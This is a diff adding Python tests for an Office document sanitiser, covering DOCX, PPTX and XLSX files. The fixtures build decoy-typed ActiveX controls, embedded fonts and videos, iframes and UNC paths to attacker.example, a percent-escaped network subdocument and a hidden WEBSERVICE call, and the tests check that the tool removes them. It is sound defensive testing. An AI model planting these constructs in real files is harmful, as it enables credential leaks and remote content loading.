@@ -1088,3 +1088,206 @@ def test_form_field_entry_and_exit_macros_go(tmp_path: Path) -> None:
     assert b"entryMacro" not in out and b"exitMacro" not in out and b"FORMTEXT" in out
     result, _ = disarm(path, tmp_path, switches("sanitise", macros="disallow"))
     assert result.outcome == "blocked", result
+
+
+def _pptx_with(
+    shape: str, rels: list[tuple[str, str, str, bool]], parts: dict[str, bytes]
+) -> bytes:
+    import pptx
+
+    prs = pptx.Presentation()
+    prs.slides.add_slide(prs.slide_layouts[5]).shapes.title.text = "hello"
+    buf = io.BytesIO()
+    prs.save(buf)
+    return rezip(
+        buf.getvalue(),
+        {
+            "ppt/slides/slide1.xml": lambda x: x.replace(
+                b"</p:spTree>", shape.encode() + b"</p:spTree>"
+            ),
+            "ppt/slides/_rels/slide1.xml.rels": add_rels(*rels),
+            **parts,
+        },
+    )
+
+
+_DML = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
+_PML = (
+    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
+    'xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" '
+    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
+)
+_VIDEO = (
+    f'<p:pic {_PML}><p:nvPicPr><p:cNvPr id="10" name="v"/><p:cNvPicPr/><p:nvPr>'
+    '<a:videoFile r:link="rIdV"/><p:extLst><p:ext uri="{DAA4B4D4-6D71-4841-9C94-3DE7FCFB9230}">'
+    '<p14:media xmlns:p14="http://schemas.microsoft.com/office/powerpoint/2010/main" '
+    'r:embed="rIdM"/></p:ext></p:extLst></p:nvPr></p:nvPicPr><p:blipFill><a:blip/>'
+    "<a:stretch><a:fillRect/></a:stretch></p:blipFill><p:spPr/></p:pic>"
+)
+_AX = (
+    b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
+    b'ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" ax:persistence="persistPropertyBag">'
+    b'<ax:ocxPr ax:name="Caption" ax:value="Run"/></ax:ocx>'
+)
+_CONTROL = (
+    '<w:r><w:object><v:shape id="_x0000_i1026" style="width:72pt;height:24pt"/>'
+    '<w:control r:id="rIdAX" w:name="CommandButton1" w:shapeid="_x0000_i1026"/></w:object></w:r>'
+)
+
+
+@pytest.mark.parametrize("case", ["activex", "font", "video", "package"])
+def test_parts_an_element_places_go_whatever_their_relationship_type(
+    tmp_path: Path, case: str
+) -> None:
+    """Readers follow the r:id (r:embed, r:link) of the element that uses a part, not
+    the relationship's type: an ActiveX control, an embedded font and a video under
+    a "customXml" or "image" relationship with a plain content type were kept, and
+    LibreOffice imported the control, loaded the font and played the video. A chart
+    workbook (a zip) under a decoy type was kept too."""
+    decoy = _REL + "customXml"
+    if case == "activex":
+        data = rezip(
+            _docx_with(_CONTROL),
+            {
+                "word/ax/item9.xml": _AX,
+                "word/_rels/document.xml.rels": add_rels(("rIdAX", decoy, "ax/item9.xml", False)),
+                "[Content_Types].xml": content_types({"/word/ax/item9.xml": "application/xml"}),
+            },
+        )
+        part, switch, element = "word/ax/item9.xml", "macros", b"w:control"
+    elif case == "font":
+        face = (
+            '<w:font w:name="Gicap Sans"><w:embedRegular r:id="rIdF" '
+            'w:fontKey="{4C7E3D21-9A8B-4F3E-8D2A-1B2C3D4E5F60}"/></w:font>'
+        )
+        data = rezip(
+            _docx_with("<w:r><w:t>x</w:t></w:r>"),
+            {
+                "word/fontTable.xml": lambda x: x.replace(
+                    b"</w:fonts>", face.encode() + b"</w:fonts>"
+                ),
+                "word/_rels/fontTable.xml.rels": add_rels(
+                    ("rIdF", _REL + "image", "fonts/font1.odttf", False)
+                )(
+                    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
+                    b'relationships"></Relationships>'
+                ),
+                "word/fonts/font1.odttf": b"\x00\x01\x00\x00" + bytes(200),
+            },
+        )
+        part, switch, element = "word/fonts/font1.odttf", "embedded_files", b"embedRegular"
+    elif case == "video":
+        data = _pptx_with(
+            _VIDEO,
+            [
+                ("rIdV", _REL + "image", "../media/v.mp4", False),
+                ("rIdM", _REL + "image", "../media/v.mp4", False),
+            ],
+            {"ppt/media/v.mp4": b"\x00\x00\x00\x18ftypmp42" + bytes(100)},
+        )
+        part, switch, element = "ppt/media/v.mp4", "embedded_files", b"videoFile"
+    else:
+        data = rezip(
+            build_docx(False),
+            {
+                "word/data.xlsx": build_xlsx(False),
+                "word/_rels/document.xml.rels": add_rels(("rIdX", decoy, "data.xlsx", False)),
+            },
+        )
+        part, switch, element = "word/data.xlsx", "embedded_files", b""
+    path = _write(tmp_path, f"placed.{'pptx' if case == 'video' else 'docx'}", data)
+    assert part in names(path)
+    result, dest = disarm(path, tmp_path, switches("sanitise"))
+    assert result.outcome == "rebuilt", result
+    assert part not in names(dest)
+    if element:
+        assert all(element not in member(dest, n) for n in names(dest) if n.endswith(".xml"))
+    assert_consistent(dest)
+    result, _ = disarm(path, tmp_path, switches("sanitise", **{switch: "disallow"}))
+    assert result.outcome == "blocked", result
+
+
+def test_web_content_outside_relationships_goes(tmp_path: Path) -> None:
+    """Word's online video (an iframe in webVideoPr's embeddedHtml, shown in a browser
+    control), a VML image source on a network share and a document information panel
+    form (customXsn, loaded by Office 2007-2013 when the document opened) were kept."""
+    video = (
+        '<wp15:webVideoPr xmlns:wp15="http://schemas.microsoft.com/office/word/2012/'
+        'wordprocessingDrawing" embeddedHtml="&lt;iframe src=&quot;http://attacker.example/'
+        'v.html&quot;&gt;&lt;/iframe&gt;" h="270" w="480"/>'
+    )
+    picture = (
+        '<w:r><w:pict><v:shape id="s1" style="width:10pt;height:10pt"><v:imagedata '
+        'o:href="\\\\attacker.example\\share\\a.png" src="file://attacker.example/b.png"/>'
+        f"</v:shape></w:pict></w:r><w:r><w:drawing><a:blip {_DML}><a:extLst>"
+        '<a:ext uri="{C809E66F-F1BF-436E-b5F7-EEA9579F0CBA}">'
+        f"{video}</a:ext></a:extLst></a:blip></w:drawing></w:r>"
+    )
+    xsn = (
+        b'<customXsn xmlns="http://schemas.microsoft.com/office/2006/metadata/customXsn">'
+        b"<xsnLocation>\\\\attacker.example\\share\\dip.xsn</xsnLocation><cached>False</cached>"
+        b"<openByDefault>True</openByDefault><xsnScope/></customXsn>"
+    )
+    data = rezip(
+        _docx_with(picture),
+        {
+            "customXml/item9.xml": xsn,
+            "word/_rels/document.xml.rels": add_rels(
+                ("rIdC", _REL + "customXml", "../customXml/item9.xml", False)
+            ),
+        },
+    )
+    path = _write(tmp_path, "web.docx", data)
+    result, dest = disarm(path, tmp_path, switches("sanitise"))
+    assert result.outcome == "rebuilt", result
+    for name in names(dest):
+        assert b"attacker.example" not in member(dest, name), name
+    assert b"a:blip" in member(dest, "word/document.xml")
+    assert_consistent(dest)
+    (found,) = [a.detail for a in result.actions if a.switch == "external_hyperlinks"]
+    assert set(found.split(", ")) == {
+        "online video",
+        "linked image (VML) ×2",
+        "document information panel form",
+    }
+    result, _ = disarm(path, tmp_path, switches("sanitise", external_hyperlinks="disallow"))
+    assert result.outcome == "blocked", result
+
+
+def test_a_relationships_part_named_in_another_case_is_the_parts(tmp_path: Path) -> None:
+    """Part names compare without case: word/_rels/Document.xml.rels holds the
+    relationships of word/document.xml. Read as no part's, every part it referred to
+    was dropped as unreferenced (styles, settings, images)."""
+    base = build_docx(False)
+    rels = zipfile.ZipFile(io.BytesIO(base)).read("word/_rels/document.xml.rels")
+    data = rezip(base, {"word/_rels/document.xml.rels": None, "word/_rels/Document.xml.rels": rels})
+    path = _write(tmp_path, "case.docx", data)
+    result, dest = disarm(path, tmp_path, switches("sanitise"))
+    assert result.outcome in ("rebuilt", "unmodified"), result
+    assert not any("unreferenced" in a.detail for a in result.actions), result.actions
+    if result.outcome == "rebuilt":
+        assert "word/styles.xml" in names(dest)
+    twice = rezip(base, {"word/_rels/Document.xml.rels": rels})
+    result, _ = disarm(_write(tmp_path, "twice.docx", twice), tmp_path, switches("sanitise"))
+    assert result.outcome == "unprocessable" and "duplicate" in (result.reason or "")
+
+
+def test_a_percent_escaped_network_path_is_external(tmp_path: Path) -> None:
+    """A subdocument target %5C%5Chost%5Cshare%5Cx.docx with no TargetMode resolved to
+    no part and was kept as internal: unescaped, it is a network path."""
+    target = "%5C%5Cattacker.example%5Cshare%5Cx.docx"
+    data = rezip(
+        _docx_with('<w:subDoc r:id="rIdS"/>'),
+        {"word/_rels/document.xml.rels": add_rels(("rIdS", _REL + "subDocument", target, False))},
+    )
+    _assert_link_goes(tmp_path, _write(tmp_path, "sub.docx", data), "external_hyperlinks")
+
+
+def test_a_web_service_call_with_its_xlws_prefix_goes(tmp_path: Path) -> None:
+    """Excel writes WEBSERVICE as _xlws.WEBSERVICE in a cell: the prefix hid it."""
+    path = _write(
+        tmp_path, "ws.xlsx", _xlsx_formula('_xlws.WEBSERVICE("http://attacker.example/")')
+    )
+    result, dest = disarm(path, tmp_path, switches("sanitise"))
+    assert result.outcome == "rebuilt", result
+    assert all(b"attacker.example" not in member(dest, n) for n in names(dest))
